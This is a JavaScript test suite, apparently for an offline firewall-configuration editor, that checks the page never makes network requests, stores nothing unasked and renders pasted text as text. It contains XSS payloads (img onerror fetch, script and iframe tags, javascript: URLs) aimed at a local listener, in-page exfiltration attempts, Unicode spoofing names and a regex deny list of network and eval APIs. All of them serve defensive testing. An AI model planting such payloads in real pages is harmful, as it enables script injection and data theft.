// The promise beside the editor, held by every build: nothing leaves, and nothing in the text becomes markup or code.
import assert from 'node:assert/strict';
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { test } from 'node:test';
import { built, clickText, fileUrl, groups, open, paste, settled, suite, texts, verdict } from './harness.mjs';
import { choose, graded, learn, openExercise } from './learning.mjs';

const { browser, server, hostile } = await suite({ servers: { server: [], hostile: [() => 'caught'] } });

/** A configuration whose every free text tries to reach the listener. */
const baited = () => {
  const { url } = hostile;
  return groups(
    [`<img src=${url}name onerror="fetch('${url}name')">`, [22, '0.0.0.0/0', `<script src=${url}script></script>`]],
    [`"><link rel=stylesheet href=${url}css>`, [8888, '0.0.0.0/0', `javascript:fetch('${url}js')`]],
    [`${url}plain`, [443, '0.0.0.0/0', `<iframe src="${url}frame"></iframe>`]],
  );
};

for (const [from, url] of [
  ['a server', () => server.url],
  ['a disk', () => fileUrl],
]) {
  test(`opened from ${from}, using everything makes no request`, async () => {
    hostile.requests.length = 0;
    const asked = [];
    const page = await open(browser, { url: url() });
    page.on('request', request => asked.push(request.url()));
    const servedBefore = server.requests.length;
    await paste(page, baited());
    await pressEverything(page);
    await learnEverything(page);
    await paste(page, baited());
    await takeEverythingAway(page);
    await page.evaluate(link => (location.hash = link), await page.evaluate(() => window.shared.at(-1).match(/#p=.*/)[0]));
    await page.waitForFunction(() => location.hash === '');
    // A saved file is asked of the page's own memory.
    assert.deepEqual(asked.filter(address => !address.startsWith('blob:')), [], 'the page asked for something');
    assert.equal(server.requests.length, servedBefore, 'its own server was asked again');
    assert.deepEqual(hostile.requests, [], 'the listener was reached');
    assert.equal(await page.$eval('.ledger', element => element.dataset.made), '0', 'the ledger counts a request');
    assert.equal(await page.$eval('.ledger', element => element.dataset.blocked), '0', 'the page tried something that was refused');
    assert.deepEqual(page.complaints, []);
    await page.close();
  });
}

/** Presses every button of every view once, the lists' first entries included. */
async function pressEverything(page) {
  for (const tab of (await page.$$eval('[role=tab]', tabs => tabs.map(tab => `#${tab.id}`)))) {
    // What was pressed before may answer late and lead to another view, so it is chosen until it stays.
    await page.waitForFunction(
      selector => {
        const tab = document.querySelector(selector);
        const chosen = tab?.getAttribute('aria-selected') === 'true';
        if (!chosen) tab?.click();
        return chosen;
      },
      { polling: 100 },
      tab,
    );
    await settled(page);
    await page.evaluate(() => {
      for (const button of document.querySelectorAll('.truth button, .line-bar button, .top button[aria-label]')) if (button.isConnected && !button.disabled) button.click();
    });
    await settled(page);
    await page.evaluate(() => document.querySelector('dialog[open]')?.close());
  }
  for (const section of ['Ports', 'Checks']) {
    await clickText(page, '.section-link', section);
    await page.waitForSelector('.sheet .entry');
    await page.evaluate(() => {
      for (const button of document.querySelectorAll('.sheet button')) if (button.isConnected && !button.disabled) button.click();
    });
  }
  await clickText(page, '.section-link', 'Review');
}

/** Loads a pack whose every text tries to reach the listener, and presses every button of the training ground. */
async function learnEverything(page) {
  await learn(page);
  const folder = fs.mkdtempSync(path.join(os.tmpdir(), 'privacy-'));
  const pack = path.join(folder, 'pack.toml');
  const bait = `${hostile.url}pack javascript:fetch('${hostile.url}js') url(${hostile.url}css)`;
  const flow = 'flow = "internet -> web tcp/443"\nbecause = "' + bait + '"';
  fs.writeFileSync(pack, `[[exercise]]\nid = "bait"\ntitle = "${bait}"\nstory = "${bait}"\nlesson = "${bait}"\nfile = "start.json"\nstart = '''${groups(['web', [22, '0.0.0.0/0', bait.replaceAll("'", '')]])}'''\nsolution = '''${groups(['web', [443, '0.0.0.0/0']])}'''\n[exercise.zones]\ninternet = "internet"\nweb = { group = "web" }\n[[exercise.must_allow]]\n${flow}\n[[exercise.hint]]\ntext = "${bait}"\n`);
  await choose(page, 'Load a pack', pack);
  await page.waitForSelector('[data-ground=pack]');
  fs.rmSync(folder, { recursive: true });
  const press = selector =>
    page.evaluate(selector => {
      for (const button of document.querySelectorAll(selector)) if (button.isConnected && !button.disabled) button.click();
    }, selector);
  for (const [ground, id] of [['pack', 'bait'], ['own', '03-bastion']]) {
    await openExercise(page, id, ground);
    await press('.exercise-side button, .attempt .compare-tools button');
    await graded(page);
    await clickText(page, '.exercise-title .link', 'All exercises');
  }
  await page.waitForSelector('.learn-panel');
  // Files are chosen by hand, and what is kept is another test's.
  await press('.learn-panel button:not(input + button)');
  for (const tab of ['Primer', 'Drill']) {
    await clickText(page, '.learn-tabs button', tab);
    await press('.learn .sheet button');
  }
  await clickText(page, '.learn-tabs button', 'Exercises');
  await clickText(page, '.section-link', 'Review');
  if (await page.$('#plain-text')) await clickText(page, '.source .button', 'Plain text box');
}

/** Copies, saves, prints and shares in every way there is, and keeps the work for a moment. */
async function takeEverythingAway(page) {
  await page.evaluate(() => {
    window.shared = [];
    navigator.clipboard.writeText = async text => void window.shared.push(text);
  });
  const open = async () => {
    await clickText(page, '.tools .button', 'Take away');
    await page.waitForSelector('.take-form');
  };
  await open();
  const forms = await page.$$eval('.take-form', forms => forms.length);
  await page.evaluate(() => document.querySelectorAll('.take-form button').forEach(button => button.click()));
  await page.waitForFunction(forms => window.shared.length === forms, {}, forms);
  await clickText(page, '.take-ways .button', 'Print');
  await open();
  await clickText(page, '.take-ways .button', 'Share');
  await (await page.waitForSelector('.share-link .copy')).click();
  await page.click('.share-choice:nth-of-type(2)');
  await (await page.waitForSelector('.share-warning ~ .share-link .copy')).click();
  await page.waitForFunction(copied => window.shared.length === copied, {}, forms + 2);
  await clickText(page, '.share .button', 'Close');
  await page.waitForFunction(() => !document.querySelector('.share'));
  await page.click('.keep input');
  await page.waitForSelector('.keep[data-keeping=on]');
  await page.click('.keep input');
  await page.waitForSelector('.keep[data-keeping=off]');
}

test('nothing is stored unless it is asked for', async () => {
  const page = await open(browser, { url: server.url });
  await paste(page, baited());
  await pressEverything(page);
  const stored = await page.evaluate(async () => [localStorage.length, sessionStorage.length, document.cookie, (await indexedDB.databases()).length, (await caches.keys()).length]);
  assert.deepEqual(stored, [0, 0, '', 0, 0]);
  await page.close();
});

test('the listener can be reached, and the policy is what keeps the page and its worker from it', async () => {
  hostile.requests.length = 0;
  await fetch(`${hostile.url}from-outside`);
  assert.deepEqual(hostile.requests, ['/from-outside'], 'the listener works');

  const page = await open(browser, { url: server.url });
  await paste(page, groups(['web', [443, '0.0.0.0/0']]));
  const tries = await page.evaluate(async url => {
    const outcome = async attempt => {
      try {
        await attempt();
        return 'allowed';
      } catch {
        return 'refused';
      }
    };
    const image = new Image();
    image.src = `${url}image`;
    navigator.sendBeacon(`${url}beacon`, 'x');
    const form = Object.assign(document.createElement('form'), { action: `${url}form`, method: 'post', target: '_blank' });
    document.body.append(form);
    form.submit();
    form.remove();
    const frame = Object.assign(document.createElement('iframe'), { src: `${url}frame` });
    document.body.append(frame);
    return {
      fetch: await outcome(() => fetch(`${url}fetch`, { mode: 'no-cors' })),
      own: await outcome(() => fetch('/own')),
      import: await outcome(() => import(`${url}import`)),
      socket: await outcome(() => new Promise((opened, refused) => Object.assign(new WebSocket(url.replace('http', 'ws')), { onopen: opened, onerror: refused }))),
      markup: await outcome(() => (document.createElement('div').innerHTML = '<b>x</b>')),
    };
  }, hostile.url);
  assert.deepEqual(tries, { fetch: 'refused', own: 'refused', import: 'refused', socket: 'refused', markup: 'refused' });
  const [worker] = page.workers();
  assert.ok(worker, 'the session lives in a worker');
  const fromWorker = await worker.evaluate(url => fetch(`${url}worker`, { mode: 'no-cors' }).then(() => 'allowed', () => 'refused'), hostile.url);
  assert.equal(fromWorker, 'refused');
  assert.deepEqual(hostile.requests, ['/from-outside'], 'nothing but our own control reached the listener');
  await page.waitForFunction(() => Number(document.querySelector('.ledger').dataset.blocked) >= 5, {});
  await page.close();
});

test('text from the document stays text', async () => {
  const page = await open(browser);
  await paste(page, baited());
  assert.equal(await verdict(page), 'dangerous');
  for (const tab of ['#tab-findings', '#tab-ports', '#tab-tiers', '#tab-policies']) {
    await page.click(tab);
    await page.waitForSelector(`${tab}[aria-selected=true]`);
    await page.evaluate(() => document.querySelectorAll('.policy .finding-toggle[aria-expanded=false]').forEach(button => button.click()));
    assert.ok((await texts(page, '#view')).some(text => text.includes('<img src=')), `${tab} shows the name as it is written`);
    assert.equal(await page.$('.truth img, .truth iframe, .truth script, .truth link'), null);
  }
  await page.waitForSelector('.policy .rule');
  assert.deepEqual(page.complaints, []);
  await page.close();
});

test('names that would deceive are shown for what they are, and endless ones in part', async () => {
  const page = await open(browser);
  const long = 'x'.repeat(100_000);
  await paste(page, groups(['\u202Efer-esrever\u2069', [22, '0.0.0.0/0']], [long, [3389, '0.0.0.0/0']], ['ad\u200Bmin', [8888, '0.0.0.0/0']]));
  for (const view of ['findings', 'ports', 'policies', 'map', 'tiers']) {
    await page.click(`#tab-${view}`);
    await page.waitForSelector(`#tab-${view}[aria-selected=true]`);
    const text = await page.$eval('#truth', truth => truth.innerText + [...truth.querySelectorAll('[title], [placeholder], [aria-label]')].map(each => each.title + each.placeholder + each.ariaLabel).join());
    assert.doesNotMatch(text, /[\u200b\u202a-\u202e\u2066-\u2069]/);
    assert.match(text, /\uFFFDfer-esrever\uFFFD/);
    assert.ok(text.length < 20_000, `${view}: ${text.length}`);
  }
  // What is asked is the name itself.
  await page.click('.ask-hint .link');
  await page.waitForSelector('.answer');
  assert.match(await page.$eval('#ask', input => input.value), /\u202E/);
  assert.deepEqual(page.complaints, []);
  await page.close();
});

test('the built file has no way out', () => {
  const page = fs.readFileSync(built, 'utf8');
  const [policy] = page.match(/(?<=http-equiv="Content-Security-Policy" content=")[^"]+/);
  for (const directive of ["default-src 'none'", "connect-src 'none'", "form-action 'none'", "base-uri 'none'", "object-src 'none'", "frame-src 'none'", 'worker-src blob:', "require-trusted-types-for 'script'", 'trusted-types app']) {
    assert.ok(policy.split('; ').includes(directive), `the policy lacks ${directive}`);
  }
  assert.match(policy, /script-src 'sha256-[^']+' 'wasm-unsafe-eval';/);
  assert.match(policy, /style-src 'sha256-[^']+';/);
  assert.ok(page.indexOf('Content-Security-Policy') < page.indexOf('<style'), 'the policy comes before everything it is about');

  // The wasm module is no script: it can call only what its glue hands it, and the glue is part of what is scanned.
  const text = page.replace(/(<script type="application\/wasm" id="wasm">)[^<]*/, '$1');
  assert.ok(text.length < page.length / 2, 'the module was found');
  const forbidden = {
    'a peer connection': /RTCPeerConnection|RTCDataChannel|WebTransport/,
    'a network call': /\bfetch\s*\(|XMLHttpRequest|WebSocket|EventSource|sendBeacon|importScripts|serviceWorker/,
    navigation: /\blocation\s*=[^=]|\.location\s*=[^=]|location\.(?:assign|replace|href|reload)|window\.open|\bnavigation\.navigate|history\.pushState/,
    'markup from strings': /\.(?:inner|outer)HTML\b|insertAdjacentHTML|document\.write|createContextualFragment|setHTMLUnsafe|DOMParser|srcdoc/,
    'code from strings': /\beval\s*\(|new Function\b|\bFunction\s*\(/,
    storage: /sessionStorage|indexedDB|document\.cookie|\bcaches\./,
    'an import at run time': /\bimport\s*\(/,
  };
  for (const [what, pattern] of Object.entries(forbidden)) assert.equal(text.match(pattern)?.[0], undefined, what);
  // Each stands in one place. The store is what the switch "Keep my last work" turns on. The other takes a shared link's
  // documents out of the address bar: it loads nothing, and browsers let it name no other server (HTML Standard, "can have its
  // URL rewritten").
  for (const once of ['localStorage', 'history.replaceState']) assert.equal(text.split(once).length - 1, 1, once);

  const outside = [...text.matchAll(/(?:https?|wss?|ftp):\/\/[^\s"'`)\\<]+/g)].map(([address]) => address);
  const names = new Set(['http://www.w3.org/2000/svg', 'http://www.w3.org/1999/xhtml', 'http://www.w3.org/1998/Math/MathML']);
  assert.deepEqual(outside.filter(address => !names.has(address)), [], 'an address of another server');
  for (const [, target] of text.matchAll(/<(?:a|link|img|iframe|form)\b[^>]*?(?:href|src|action)="([^"]*)"/g)) assert.match(target, /^(?:#|data:)/);
});

test('no link on the page leads outside', async () => {
  const page = await open(browser);
  await paste(page, baited());
  const targets = await page.$$eval('a[href], area[href]', links => links.map(link => link.getAttribute('href')));
  assert.ok(targets.every(target => target.startsWith('#')), String(targets));
  await page.close();
});
